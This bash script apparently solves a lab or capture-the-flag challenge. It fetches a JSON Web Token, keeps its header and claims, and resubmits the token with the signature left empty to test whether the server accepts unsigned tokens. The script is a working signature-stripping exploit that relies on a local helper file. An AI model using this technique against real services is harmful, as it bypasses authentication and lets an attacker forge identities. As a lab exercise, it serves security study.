#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

token="$(curl -s "$(at empty-signature token)")"
header="$(printf '%s' "$token" | part 1)"
send empty-signature "$header.$(claims "$token")."
